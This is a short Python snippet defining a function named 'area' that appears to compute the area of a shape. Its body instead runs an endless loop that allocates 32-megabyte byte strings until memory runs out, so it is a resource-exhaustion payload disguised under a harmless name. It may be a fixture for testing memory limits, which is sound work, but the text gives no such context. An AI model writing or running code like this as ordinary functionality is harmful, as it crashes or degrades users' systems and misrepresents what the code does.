def area(shape, *sides):
    eaten = []
    while True:
        eaten.append(b"x" * 32_000_000)
